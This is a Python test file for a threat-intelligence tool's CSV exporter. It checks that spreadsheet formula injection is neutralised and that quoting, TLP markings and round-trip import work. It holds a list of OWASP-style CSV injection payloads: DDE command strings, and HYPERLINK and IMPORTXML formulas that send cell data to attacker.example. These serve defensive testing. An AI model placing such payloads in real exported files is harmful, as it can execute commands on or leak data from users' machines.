"""CSV export (accord/io/csv_format.py): formula injection neutralised, quoting, TLP, round trip."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import orjson

from accord.io.indicators import KINDS, indicator, observable
from accord.stix.markings import TLP2_AMBER
from tests.cli.conftest import Run

CREATED = "2024-04-01T00:00:00.000Z"
# Payloads from the OWASP "CSV Injection" page and public write-ups of spreadsheet DDE attacks.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", A2), "//a")',
]


def bundle(tmp_path: Path, objects: list[dict[str, Any]]) -> Path:
    path = tmp_path / "in.json"
    path.write_bytes(orjson.dumps({"type": "bundle", "id": "bundle--3f1c6f0e-0c6e-4a55-9a53-5c1f0d1e2a3b",
                                   "objects": objects}))
    return path


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_formula_payloads_are_neutralised_everywhere(accord: Run, tmp_path: Path) -> None:
    objects = []
    for n, payload in enumerate(PAYLOADS):
        # as the name, the description, a label, and as a value (a file name may be anything)
        objects.append(indicator(KINDS["filename"], payload, source_key="t", created=CREATED, name=payload,
                                 description=payload, labels=[payload]))
        objects.append(indicator(KINDS["domain"], f"host{n}.example", source_key="t", created=CREATED,
                                 name=payload))
    assert accord("import", str(bundle(tmp_path, objects))).exit_code == 0
    result = accord("export", "--format", "csv")
    assert result.exit_code == 0
    table = rows(result.stdout)
    assert len(table) == 2 * len(PAYLOADS)
    for row in table:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    by_value = {r["value"]: r for r in table}
    for payload in PAYLOADS:
        row = by_value["'" + payload]
        assert row["name"] == row["description"] == row["labels"] == "'" + payload
        assert row["kind"] == "filename"


def test_quoting_newlines_commas_tlp_and_observables(accord: Run, tmp_path: Path) -> None:
    tricky = 'line one\nline "two", with comma'
    objects = [
        indicator(KINDS["url"], "http://x.example/a,b", source_key="t", created=CREATED, description=tricky,
                  object_marking_refs=[TLP2_AMBER], labels=["a", "b"]),
        indicator(KINDS["ipv4"], "198.51.100.0/24", source_key="t", created=CREATED,
                  valid_until="2030-01-01T00:00:00Z"),
        observable(KINDS["sha256"], "ab" * 32),
    ]
    compound = indicator(KINDS["domain"], "one.example", source_key="t", created=CREATED)
    compound["pattern"] = "[domain-name:value = 'one.example'] OR [ipv6-addr:value = '2001:db8::1']"
    objects.append(compound)
    objects.append({"type": "malware", "spec_version": "2.1", "id": "malware--0c7b5b88-8ff7-4a4d-aa9d-feb398cd0061",
                    "created": CREATED, "modified": CREATED, "name": "x", "is_family": True})
    assert accord("import", str(bundle(tmp_path, objects))).exit_code == 0
    out = tmp_path / "out.csv"
    result = accord("export", "--format", "csv", "-o", str(out))
    assert "skipped 1: not an indicator or observable" in result.output
    raw = out.read_bytes()
    assert raw.startswith(b"id,type,kind,value,") and b"\r\n" in raw
    table = rows(raw.decode("utf-8"))
    by_value = {r["value"]: r for r in table}
    url = by_value["http://x.example/a,b"]
    assert url["description"] == tricky and url["tlp"] == "amber" and url["labels"] == "a,b"
    assert by_value["198.51.100.0/24"]["valid_until"] == "2030-01-01T00:00:00Z"
    assert by_value["ab" * 32]["type"] == "file" and by_value["ab" * 32]["kind"] == "sha256"
    assert by_value["one.example"]["id"] == by_value["2001:db8::1"]["id"]
    assert accord("export", "--format", "csv", "-O", "bom=true").stdout_bytes.startswith(b"\xef\xbb\xbfid,")


def test_export_then_import_as_csv_gives_the_same_values(accord: Run, tmp_path: Path) -> None:
    objects = [indicator(KINDS[k], v, source_key="t", created=CREATED, name=f"-{v}")
               for k, v in (("domain", "rt.example"), ("ipv4", "192.0.2.44"), ("md5", "cd" * 16),
                            ("filename", "=evil.xls"))]
    assert accord("import", str(bundle(tmp_path, objects))).exit_code == 0
    out = tmp_path / "out.csv"
    accord("export", "--format", "csv", "-o", str(out))
    again = tmp_path / "node2.csv"
    again.write_bytes(out.read_bytes())
    # into the same store as a second source: new indicators (another source), the same values
    result = accord("import", "--format", "csv", str(again))
    assert result.exit_code == 0, result.output
    table = rows(accord("export", "--format", "csv").stdout)
    pairs = {(r["kind"], r["value"]) for r in table}
    assert pairs == {("domain", "rt.example"), ("ipv4", "192.0.2.44"), ("md5", "cd" * 16),
                     ("filename", "'=evil.xls")}
    assert len(table) == 8
    assert {r["name"] for r in table} == {"'-rt.example", "'-192.0.2.44", "'-" + "cd" * 16, "'-=evil.xls"}
